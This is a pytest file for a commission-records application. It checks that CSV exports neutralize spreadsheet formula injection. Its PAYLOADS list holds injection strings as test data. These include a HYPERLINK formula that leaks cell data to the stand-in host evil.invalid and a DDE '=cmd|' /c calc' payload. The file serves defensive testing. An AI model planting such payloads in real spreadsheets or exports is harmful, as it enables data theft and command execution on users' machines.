"""Every file the program hands out is inert when opened: each CSV goes through the
one writer (text quoted, formula starts neutralized, after a `;` too), and a
name's bidirectional controls never reach a paper."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from concom_desk.domain.public_csv import PublicCsvWriter
from concom_desk.domain.votes import VoteChoice
from concom_desk.services.calendar.votes import record_vote
from concom_desk.services.minutes.meeting_record import export_meeting_record
from concom_desk.store import open_database
from tests.helpers.calendar_db import build_commission
from tests.helpers.minutes_meeting import MAR3, MAR17, hold_march_3

# (what was typed, what the CSV field must read)
PAYLOADS = [
    ('=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")',
     '\'=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("+1", "'+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("Smith;=cmd|' /c calc'!A0", "Smith;'=cmd|' /c calc'!A0"),
    ("Smith; -2+3", "Smith; '-2+3"),
    ("O'Brien, Anne-Marie", "O'Brien, Anne-Marie"),
]


def test_the_csv_writer_quotes_every_text_and_neutralizes_formulas() -> None:
    buffer = io.StringIO()
    writer = PublicCsvWriter(buffer)
    writer.writerow([typed for typed, _ in PAYLOADS])
    writer.writerow([12, Decimal("125.00"), None, "12"])
    lines = buffer.getvalue().splitlines()
    # every text field starts with a quote: a ';'-separator Excel cannot split one
    fields = lines[0].split('","')
    assert lines[0].startswith('"') and len(fields) == len(PAYLOADS)
    assert list(csv.reader(io.StringIO(buffer.getvalue())))[0] == [
        shown for _, shown in PAYLOADS]
    assert lines[1] == '12,125.00,"","12"'  # numbers stay numbers


@pytest.fixture
def commission(tmp_path: Path):  # type: ignore[no-untyped-def]
    database = open_database(tmp_path / "commission.sqlite", initials="JB")
    try:
        yield build_commission(database)
    finally:
        database.close()


def test_the_meeting_records_votes_csv_is_neutralized(commission, tmp_path: Path) -> None:
    c = commission
    hold_march_3(c)
    m = c.members
    present = {m[name]: VoteChoice.YES for name in ("Baker", "Costa", "Duarte", "Ellis")}
    for motion, _shown in PAYLOADS[:3]:
        record_vote(c.db, c.meetings[MAR3], motion, present, today=MAR3)
    written = export_meeting_record(c.db, c.meetings[MAR3], tmp_path / "out", today=MAR17)
    raw = (written.path / "Votes.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    motions = [row[1] for row in rows[1:]]
    # (the motion is stored trimmed: the tab before =1+1 goes where it is typed)
    for shown in (PAYLOADS[0][1], "'-2+3", "'=1+1"):
        assert shown in motions
    assert all(line.startswith('"') for line in raw.splitlines())


def test_the_records_export_csv_quotes_a_semicolon_payload(town: Path, run) -> None:
    import sqlite3

    from concom_desk.store.audit import Actor, register_audit_functions

    with sqlite3.connect(town) as connection:
        register_audit_functions(connection, Actor("clerk", "JB"))
        connection.execute("UPDATE party SET name = ? WHERE id = (SELECT min(id) FROM party)",
                           ("Smith;=cmd|' /c calc'!A0",))
    out = town.parent / "export"
    ran = run("export", "--db", town, "--format", "csv", "--out", out)
    assert ran.code == 0, ran.err
    raw = (out / "Party.csv").read_text(encoding="utf-8-sig")
    assert "\"Smith;'=cmd|' /c calc'!A0\"" in raw
    assert ";=cmd" not in raw
